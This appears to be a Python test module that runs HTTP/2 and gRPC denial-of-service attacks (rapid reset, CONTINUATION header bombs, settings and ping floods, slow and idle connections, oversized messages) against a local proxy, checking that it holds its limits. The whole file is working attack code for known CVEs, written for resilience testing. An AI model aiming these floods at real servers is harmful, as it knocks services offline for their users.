"""The attacks. Each ends by itself: after `seconds`, or when it has sent what
it had to send, or when it is cut off. Each returns what it saw, for people.

Sources: CVE-2023-44487 (rapid reset), CVE-2023-33953 and CVE-2024-27316
(headers), CVE-2023-4785 (aborted connections), RFC 9113 10.5.
"""
import dataclasses
import pathlib
import struct
import time

import http2
from http2 import (Closed, Connection, CONTINUATION, DATA, END_HEADERS,
                   END_STREAM, FRAME_MAX, HEADERS, PING, PREFACE, RST_STREAM,
                   SETTINGS, call_headers, frame, header, integer, message)

CHECKPOINT = "/comity.v1.LogService/GetCheckpoint"
ENTRIES = "/comity.v1.LogService/ListEntries"
SUBMIT = "/comity.v1.RegistryService/SubmitStatement"
STREAM = "/comity.v1.RegistryService/SubmitStatements"
HEAD = "/comity.v1.SyncService/GetLogHead"
PACKAGE = "/comity.v1.SyncService/GetEntryPackage"
ANNOUNCE = "/comity.v1.SyncService/AnnounceHead"
MEBIBYTE = 1 << 20
# Attackers are other clients than the honest one: addresses of their own, and
# new ones for each attack, so that the limits of one do not hide the next.
ATTACKERS = ["127.0.1.%d" % n for n in range(2, 10)]


@dataclasses.dataclass(frozen=True)
class Target:
    """A port of the proxy, the certificate that is shown to it, and methods
    that it serves: one with a short answer, one with a long one if it is asked
    `question`, and two that take much, if there is a stream among them."""
    port: int
    shown: pathlib.Path = None
    short: str = CHECKPOINT
    long: str = ENTRIES
    question: bytes = b""
    takes: tuple = (STREAM, SUBMIT)


def move_attackers(number):
    """New addresses, for the attack of that number."""
    ATTACKERS[:] = ["127.0.%d.%d" % (1 + number % 250, n)
                    for n in range(2, 10)]


def _connect(target, source, **options):
    """None if the proxy refuses."""
    try:
        return Connection(target.port, source, shown=target.shown, **options)
    except OSError:
        return None


def _until(seconds):
    end = time.monotonic() + seconds
    return lambda: time.monotonic() < end


def rapid_reset(target, seconds):
    """Calls that are reset at once, 500 in one piece, on one connection after
    another."""
    block = call_headers(target.short)
    going, calls, connections = _until(seconds), 0, 0
    while going() and connections < 2000:
        attacker = _connect(target, ATTACKERS[connections % 4])
        connections += 1
        if attacker is None:
            time.sleep(0.05)
            continue
        try:
            while going() and attacker.next_stream < 200_000:
                piece = b""
                for _ in range(500):
                    piece += frame(HEADERS, END_HEADERS, attacker.next_stream,
                                   block)
                    piece += frame(RST_STREAM, 0, attacker.next_stream,
                                   struct.pack(">I", 8))
                    attacker.next_stream += 2
                attacker.send(piece)
                calls += 500
        except Closed:
            pass
        attacker.close()
    return "%d calls on %d connections" % (calls, connections)


def _headers_without_end(target, seconds, first, piece, bytes_max):
    going, sent, most, connections = _until(seconds), 0, 0, 0
    while going() and connections < 200:
        attacker = _connect(target, ATTACKERS[connections % 4])
        connections += 1
        if attacker is None:
            time.sleep(0.05)
            continue
        sent = len(first)
        try:
            attacker.send(frame(HEADERS, 0, 1, first))
            while going() and sent < bytes_max:
                attacker.send(frame(CONTINUATION, 0, 1, piece))
                sent += len(piece)
        except Closed:
            pass
        most = max(most, sent)
        attacker.close()
    return most, "%d connections, the longest took %.2f MiB" % (
        connections, most / MEBIBYTE)


def header_bomb(target, seconds):
    """One header whose value never ends, in CONTINUATION frames."""
    first = call_headers(target.short) + b"\x00" + integer(1, 7) + b"x"
    first += integer(64 * MEBIBYTE, 7)
    most, text = _headers_without_end(target, seconds, first, b"a" * FRAME_MAX,
                                      64 * MEBIBYTE)
    if most >= 64 * MEBIBYTE:
        raise AssertionError("64 MiB of headers were taken")
    return text


def padded_varint(target, seconds):
    """The length of a header's name, padded by zeros without end."""
    most, text = _headers_without_end(
        target, seconds, call_headers(target.short) + b"\x00\x7f",
        b"\x80" * FRAME_MAX, 64 * MEBIBYTE)
    if most >= 64 * MEBIBYTE:
        raise AssertionError("64 MiB of padding were taken")
    return text


def aborts(target, seconds):
    """Connections that are reset, some before and some within a call."""
    going, count = _until(seconds), 0
    while going() and count < 5000:
        attacker = _connect(target, ATTACKERS[count % 8],
                            preface=count % 2 == 1)
        count += 1
        if attacker is None:
            time.sleep(0.01)
            continue
        try:
            if count % 4 == 0:
                attacker.begin(target.takes[1])
        except Closed:
            pass
        attacker.abort()
    return "%d connections" % count


def idle(target, seconds):
    """Many connections that send nothing, or a byte of a head at a time."""
    block = frame(HEADERS, END_HEADERS, 1, call_headers(target.short))
    held = []
    for n in range(800):
        attacker = _connect(target, ATTACKERS[n % 8], timeout=2.0,
                            preface=n % 2 == 1)
        if attacker is not None:
            held.append(attacker)
    going, at, cut_off = _until(seconds), 0, 0
    while going() and at < len(block) - 1:
        for n, attacker in enumerate(held):
            if n % 2 == 1:
                try:
                    attacker.send(block[at:at + 1])
                except Closed:
                    cut_off += 1
        at += 1
        time.sleep(0.5)
    for attacker in held:
        attacker.close()
    if len(held) > 64 * 8:
        raise AssertionError("%d connections of 8 addresses" % len(held))
    return "%d connections were held" % len(held)


def slow_body(target, seconds):
    """Calls whose body comes one byte at a time."""
    held, going = [], _until(seconds)
    for n in range(32):
        attacker = _connect(target, ATTACKERS[n % 8])
        if attacker is not None:
            streams = [attacker.begin(target.takes[1]) for _ in range(32)]
            held.append((attacker, streams))
    while going():
        for attacker, streams in held:
            try:
                attacker.send(b"".join(frame(DATA, 0, stream, b"\x00")
                                       for stream in streams))
            except Closed:
                pass
        time.sleep(0.5)
    for attacker, _ in held:
        attacker.close()
    return "%d connections, 32 calls each" % len(held)


def _flood(target, seconds, one):
    going, frames, connections = _until(seconds), 0, 0
    while going() and connections < 200:
        attacker = _connect(target, ATTACKERS[connections % 4], timeout=2.0)
        connections += 1
        if attacker is None:
            time.sleep(0.05)
            continue
        try:
            while going():
                attacker.send(one * 500)
                frames += 500
        except (Closed, TimeoutError):
            pass
        attacker.close()
    return "%d frames on %d connections" % (frames, connections)


def settings_flood(target, seconds):
    """Settings that must each be acknowledged, to one who never reads."""
    return _flood(target, seconds, frame(SETTINGS, 0, 0,
                                       struct.pack(">HI", 3, 100)))


def ping_flood(target, seconds):
    """Pings that must each be answered, to one who never reads."""
    return _flood(target, seconds, frame(PING, 0, 0, b"comity!!"))


def empty_frames(target, seconds):
    """Bodies of frames without content."""
    block = frame(HEADERS, END_HEADERS, 1, call_headers(SUBMIT))
    going, connections = _until(seconds), 0
    while going() and connections < 200:
        attacker = _connect(target, ATTACKERS[connections % 4], timeout=2.0)
        connections += 1
        if attacker is None:
            time.sleep(0.05)
            continue
        try:
            attacker.send(block)
            while going():
                attacker.send(frame(DATA, 0, 1) * 500)
        except (Closed, TimeoutError):
            pass
        attacker.close()
    return "%d connections" % connections


def closed_window(target, seconds):
    """Calls with long answers whose caller never takes a byte of them."""
    held, question = [], message(target.question)
    for n in range(32):
        attacker = _connect(target, ATTACKERS[n % 8], window=0)
        if attacker is None:
            continue
        try:
            for _ in range(32):
                stream = attacker.begin(target.long)
                attacker.send(frame(DATA, END_STREAM, stream, question))
            held.append(attacker)
        except Closed:
            attacker.close()
    time.sleep(seconds)
    for attacker in held:
        attacker.close()
    return "%d connections, 32 calls each" % len(held)


def aborted_reads(target, seconds):
    """Calls with long answers whose caller takes the first bytes, and resets
    the connection."""
    going, calls, connections = _until(seconds), 0, 0
    while going() and connections < 2000:
        attacker = _connect(target, ATTACKERS[connections % 8], timeout=2.0,
                            window=1)
        connections += 1
        if attacker is None:
            time.sleep(0.05)
            continue
        try:
            for _ in range(32):
                stream = attacker.begin(target.long)
                attacker.send(frame(DATA, END_STREAM, stream,
                                    message(target.question)))
            kind, flags = None, 0
            while kind not in (DATA, RST_STREAM) and not (
                    kind == HEADERS and flags & END_STREAM):
                kind, flags = attacker.read_frame()[:2]
            calls += 32
        except (Closed, TimeoutError):
            pass
        attacker.abort()
    return "%d calls on %d connections" % (calls, connections)


def large_bodies(target, seconds):
    """Messages of 64 MiB, to calls and to streams, sent as the windows let
    them. gRPC would keep all of each before it looks at its limit."""
    going, calls, most = _until(seconds), 0, 0
    while going() and calls < 500:
        attacker = _connect(target, ATTACKERS[calls % 8], timeout=2.0)
        calls += 1
        if attacker is None:
            time.sleep(0.05)
            continue
        try:
            stream = attacker.begin(target.takes[calls % 2])
            attacker.send(frame(DATA, 0, stream, b"\x00" +
                                struct.pack(">I", 64 * MEBIBYTE)))
            most = max(most, attacker.send_body(stream, 64 * MEBIBYTE, going))
        except (Closed, TimeoutError):
            pass
        attacker.close()
    if most > MEBIBYTE:
        raise AssertionError("%d bytes of one message were taken" % most)
    return "%d calls, at most %d KiB of one taken" % (calls, most >> 10)


def many_items(target, seconds):
    """Messages of 4 MiB that hold two million empty items each, on eight
    streams at once."""
    size = 4 * MEBIBYTE
    going, messages = _until(seconds), 0
    while going() and messages < 200:
        held = []
        for n in range(8):
            attacker = _connect(target, ATTACKERS[n], timeout=2.0)
            if attacker is None:
                continue
            try:
                stream = attacker.begin(STREAM)
                attacker.send(frame(DATA, 0, stream, b"\x00" +
                                    struct.pack(">I", size)))
                attacker.send_body(stream, size - FRAME_MAX, going, 5,
                                   b"\x0a\x00")
                held.append((attacker, stream))
            except (Closed, TimeoutError):
                attacker.close()
        for attacker, stream in held:
            try:
                attacker.send(frame(DATA, END_STREAM, stream,
                                    b"\x0a\x00" * (FRAME_MAX // 2)))
                messages += 1
            except (Closed, TimeoutError):
                pass
            attacker.close()
    return "%d messages" % messages


def wrong_calls(target, seconds):
    """Paths that are not served, and requests that are no messages."""
    going, calls = _until(seconds), 0
    attacker = None
    while going() and calls < 20_000:
        attacker = attacker or _connect(target, ATTACKERS[calls % 2])
        calls += 1
        if attacker is None:
            time.sleep(0.05)
            continue
        try:
            attacker.call(SUBMIT if calls % 2 else "/no/such", b"\xff\xff\xff")
        except (Closed, TimeoutError):
            attacker.close()
            attacker = None
    return "%d calls" % calls


def large_metadata(target, seconds):
    """Calls whose metadata are larger than comityd takes, but not than the
    proxy's buffer: comityd closes a connection over them, and others may have
    calls on it."""
    going, calls, attacker = _until(seconds), 0, None
    while going() and calls < 5000:
        attacker = attacker or _connect(target, ATTACKERS[calls % 8])
        calls += 1
        if attacker is None:
            time.sleep(0.05)
            continue
        size = 5000 + 500 * (calls % 20)
        try:
            attacker.call(CHECKPOINT, more=[("x-large", "a" * size)])
        except (Closed, TimeoutError):
            attacker.close()
            attacker = None
    return "%d calls" % calls


ALL = [rapid_reset, header_bomb, padded_varint, large_metadata, aborts, idle,
       slow_body, settings_flood, ping_flood, empty_frames, closed_window,
       aborted_reads, large_bodies, many_items, wrong_calls]


# By a partner, by the port that is for partners alone.
OF_PARTNERS = [rapid_reset, header_bomb, aborts, idle, slow_body, closed_window,
               aborted_reads, large_bodies]
